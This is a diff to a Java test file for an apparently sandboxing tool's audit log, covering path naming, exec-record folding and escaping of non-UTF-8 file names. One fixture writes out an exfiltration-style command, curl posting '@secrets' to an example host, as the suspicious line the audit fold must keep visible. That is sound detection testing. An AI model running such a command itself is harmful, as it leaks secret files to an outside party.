@@ -1,8 +1,10 @@
 package dev.agentjail.jail.audit;
 
 import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertFalse;
 import static org.junit.jupiter.api.Assertions.assertTrue;
 
+import dev.agentjail.proxy.audit.AuditJson;
 import dev.agentjail.proxy.audit.AuditRecord;
 import dev.agentjail.proxy.redact.Redactor;
 import io.netty.buffer.ByteBuf;
@@ -24,7 +26,9 @@ class JailActivityTest {
         try {
             b.writeByte(type);
             for (int i = 0; i < tagsAndValues.length; i += 2) {
-                byte[] v = tagsAndValues[i + 1].toString().getBytes(StandardCharsets.UTF_8);
+                byte[] v = tagsAndValues[i + 1] instanceof byte[] bytes
+                        ? bytes
+                        : tagsAndValues[i + 1].toString().getBytes(StandardCharsets.UTF_8);
                 b.writeByte((Integer) tagsAndValues[i]);
                 b.writeShortLE(v.length);
                 b.writeBytes(v);
@@ -109,13 +113,14 @@ class JailActivityTest {
     }
 
     @Test
-    void pathsAreNamedRelativeToTheProjectOrTheHomeOrAbsolute() {
+    void pathsAreNamedRelativeToTheProjectOrTheHomeOrAbsoluteAndKeepTheirDotDots() {
         activity.frame(write(1, "../notes.txt"));
-        activity.frame(write(1, "/home/u/proj/./x/../y"));
+        // x may be a link elsewhere: x/../y is not y, and the record must not say it is.
+        activity.frame(write(1, "/home/u/proj/./x//../y"));
         activity.frame(write(1, "/tmp/t"));
         activity.frame(write(1, "/home/u/.bashrc"));
         assertEquals(
-                List.of("~/notes.txt", "y", "/tmp/t", "~/.bashrc"),
+                List.of("../notes.txt", "x/../y", "/tmp/t", "~/.bashrc"),
                 written.stream().map(r -> r.file().path()).toList());
     }
 
@@ -170,8 +175,84 @@ class JailActivityTest {
         assertEquals(17, written.get(0).gap().missed());
     }
 
+    private static AuditFrame exec(int pid, String path, Object... argvAndMore) {
+        List<Object> fields = new java.util.ArrayList<>(List.of(
+                AuditFrame.PID, pid, AuditFrame.PPID, 1, AuditFrame.PATH, path, AuditFrame.CWD, "/home/u/proj"));
+        for (Object o : argvAndMore) {
+            if (o instanceof Integer tag) {
+                fields.add(tag);
+                fields.add("1");
+            } else {
+                fields.add(AuditFrame.ARG);
+                fields.add(o);
+            }
+        }
+        return frame(AuditFrame.EXEC, fields.toArray());
+    }
+
+    @Test
+    void aPathSearchsMissIsMarkedAndNotCountedAsAProgramRun() {
+        activity.frame(exec(3, "/usr/local/bin/git", "git", "status", AuditFrame.MISSING));
+        activity.frame(exec(3, "/usr/bin/git", "git", "status"));
+
+        assertEquals(2, written.size(), written::toString);
+        assertTrue(written.get(0).exec().missing(), written::toString);
+        assertFalse(written.get(1).exec().missing(), written::toString);
+        assertEquals(1, activity.programs(), "only the start that found its program ran one");
+        assertTrue(
+                AuditJson.toLine(written.get(0)).contains("\"missing\":true"), () -> AuditJson.toLine(written.get(0)));
+    }
+
+    @Test
+    void pastTheExecBoundAFoldSaysHowManyDistinctCommandLinesItHides() {
+        for (int i = 0; i < JailActivity.EXEC_RECORDS_PER_WINDOW; i++) {
+            activity.frame(exec(10 + i, "/bin/true", "true", "noise" + i));
+        }
+        // Past the bound: the same program with two harmless and one telling command line.
+        activity.frame(exec(5000, "/usr/bin/curl", "curl", "https://example.test/a"));
+        activity.frame(exec(5001, "/usr/bin/curl", "curl", "https://example.test/a"));
+        activity.frame(exec(5002, "/usr/bin/curl", "curl", "--data", "@secrets", "https://example.test/b"));
+        activity.tick();
+
+        AuditRecord fold = written.get(written.size() - 1);
+        assertEquals("/usr/bin/curl", fold.exec().path(), fold::toString);
+        assertEquals(3, fold.exec().count(), fold::toString);
+        assertEquals(2, fold.exec().commands(), "the fold must not pass for one command line run three times");
+        assertTrue(AuditJson.toLine(fold).contains("\"commands\":2"), () -> AuditJson.toLine(fold));
+    }
+
+    @Test
+    void aFrameWithAnyNameThatIsNotUtf8IsWrittenByteByByteThroughoutAndSaysSo() {
+        activity.frame(frame(
+                AuditFrame.FILE,
+                AuditFrame.PID,
+                4,
+                AuditFrame.OP,
+                "rename",
+                AuditFrame.PATH,
+                new byte[] {'a', (byte) 0xff},
+                AuditFrame.BASE,
+                "/home/u/proj",
+                AuditFrame.TARGET,
+                "a\\xff",
+                AuditFrame.BASE2,
+                "/home/u/proj"));
+        activity.frame(write(4, "plain\\name"));
+
+        AuditRecord renamed = written.get(0);
+        assertTrue(renamed.file().escaped(), renamed::toString);
+        assertEquals("a\\xff", renamed.file().path());
+        assertEquals("a\\\\xff", renamed.file().target(), "the other name, whose backslash is a character");
+        AuditRecord plain = written.get(1);
+        assertFalse(plain.file().escaped(), plain::toString);
+        assertEquals("plain\\name", plain.file().path(), "a UTF-8 frame is written as it is");
+    }
+
     @Test
     void aFileNameThatIsNotUtf8IsShownByteByByte() {
-        assertEquals("a\\xff", AuditFrame.decode(new byte[] {'a', (byte) 0xff}));
+        assertEquals("a\\xff", AuditFrame.escape(new byte[] {'a', (byte) 0xff}));
+        // A backslash is escaped too: the name "a\\xff" (five characters) and the bytes a, 0xff stay apart.
+        assertEquals("a\\\\xff", AuditFrame.escape("a\\xff".getBytes(StandardCharsets.US_ASCII)));
+        assertEquals("tab\\x09", AuditFrame.escape("tab\t".getBytes(StandardCharsets.US_ASCII)));
     }
 }
